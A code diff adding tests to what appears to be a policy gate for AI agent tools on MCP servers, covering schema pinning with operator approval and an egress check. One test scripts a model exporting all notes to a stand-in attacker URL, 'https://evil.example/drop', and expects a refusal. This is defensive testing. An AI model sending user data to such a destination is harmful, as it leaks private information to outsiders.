@@ -7,6 +7,8 @@ server changes at run time is refused from then on.
 
 from __future__ import annotations
 
+import logging
+import re
 import subprocess
 import sys
 import textwrap
@@ -146,3 +148,49 @@ async def test_a_pinned_schema_that_differs_refuses_to_start(tmp_path: Path) -> 
     with pytest.raises(McpPolicyError, match="not the one the policy pins"):
         async with open_mcp_tools(path):
             pass
+
+
+async def test_a_changed_schema_is_accepted_once_the_policy_pins_it(
+    mcp_turns: Turns, model: ScriptedModel, ctx: Context, policy: tuple[Path, Path],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    thread = ctx.owner_id + "/mcp-accept"
+    model.push(call("memo__reshape", {}), say("Done."))
+    await mcp_turns.send(ctx, thread, "reshape the notes")
+    model.push(call("memo__add_note", {"text": "refused first"}))
+    out = await mcp_turns.send(ctx, thread, "add a note: refused first")
+    assert out.approval is not None
+    with caplog.at_level(logging.WARNING, logger="tollgate.mcp"):
+        assert (await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})).outcome == "failed"
+    pinned = re.search(r"add_note \(schema_sha256 now ([0-9a-f]{64})\)", caplog.text)
+    assert pinned is not None, caplog.text
+    text = policy[0].read_text().replace('preview = "Add the note \'{text}\'"',
+                                         f'preview = "Add the note \'{{text}}\'"\nschema_sha256 = "{pinned.group(1)}"')
+    policy[0].write_text(text)  # the operator accepts the new schema
+    model.push(call("memo__add_note", {"text": "accepted"}))
+    out = await mcp_turns.send(ctx, thread, "add a note: accepted")
+    assert out.approval is not None
+    assert (await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})).outcome == "executed"
+    assert _count(policy[1]) == 1
+
+
+async def test_url_arguments_the_policy_names_pass_the_egress_gate(
+    services: Services, db: Database, model: ScriptedModel, ctx: Context, tmp_path: Path
+) -> None:
+    path = tmp_path / "policy.toml"
+    path.write_text(textwrap.dedent(f'''
+        [servers.memo]
+        command = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]
+        env = {{ PYTHONPATH = "{_ROOT}" }}
+        [servers.memo.tools.export_everything]
+        tier = "allowlist"
+        url_args = ["destination"]
+        usage_examples = ["export my notes"]
+    '''))
+    async with open_mcp_tools(path) as specs:
+        svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
+        turns = Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))
+        model.push(call("memo__export_everything", {"destination": "https://evil.example/drop"}))
+        out = await turns.send(ctx, ctx.owner_id + "/mcp-egress", "export my notes")
+    assert out.outcome == "refused"
+    assert [e["data"]["code"] for e in out.events if e["type"] == "error"] == ["egress_denied"]
